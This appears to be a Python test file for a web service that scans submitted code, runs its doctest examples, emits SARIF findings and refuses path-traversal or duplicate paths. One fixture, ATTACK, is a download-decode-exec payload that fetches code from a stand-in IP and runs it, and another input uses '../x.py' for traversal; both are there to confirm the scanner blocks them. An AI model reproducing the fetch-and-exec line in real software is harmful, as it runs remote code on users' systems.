"""Files and texts are checked over HTTP as they are on the command line."""

from __future__ import annotations

import httpx

from app.domain.artifacts import sha256_hex

GOOD = 'def double(n):\n    """\n    >>> double(2)\n    4\n    """\n    return 2 * n\n'
ATTACK = (
    "import base64, urllib.request\n"
    "exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/x').read()))\n"
)


def test_files_are_scanned_and_their_examples_run(client: httpx.Client) -> None:
    files = [{"path": "good.py", "content": GOOD}, {"path": "bad.py", "content": ATTACK}]
    answer = client.post("/api/check", json={"files": files}, timeout=120)
    assert answer.status_code == 200
    good, bad = answer.json()["files"]
    assert (good["level"], good["sha256"]) == ("ok", sha256_hex(GOOD.encode()))
    assert {c["name"]: c["status"] for c in good["checks"]}["examples"] == "pass"
    assert bad["level"] == "block"
    assert {c["name"]: c["status"] for c in bad["checks"]}["examples"] == "skipped"
    assert answer.json()["verdict"] == "not_verified"


def test_the_findings_as_sarif_name_no_folder_of_the_server(client: httpx.Client) -> None:
    files = [{"path": "src/bad.py", "content": ATTACK}]
    log = client.post("/api/check/sarif", json={"files": files}, timeout=120).json()
    assert log["version"] == "2.1.0"
    (run,) = log["runs"]
    places = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]}
    assert places == {"src/bad.py"}
    assert "originalUriBaseIds" not in run


def test_a_path_that_leads_out_and_a_path_given_twice_are_refused(client: httpx.Client) -> None:
    out = client.post("/api/check", json={"files": [{"path": "../x.py", "content": ""}]})
    twice = client.post("/api/check", json={"files": [{"path": "x.py", "content": ""}] * 2})
    assert [out.status_code, twice.status_code] == [400, 400]
    assert "same path" in twice.json()["message"]


def test_examples_are_found_in_requirements(client: httpx.Client) -> None:
    body = {"requirements": "Write double(n). double(2) returns 4.\n>>> double(-1)\n-2\n"}
    found = client.post("/api/examples", json=body).json()["examples"]
    assert {(e["call"], e["expected"]) for e in found} == {("double(2)", "4"), ("double(-1)", "-2")}
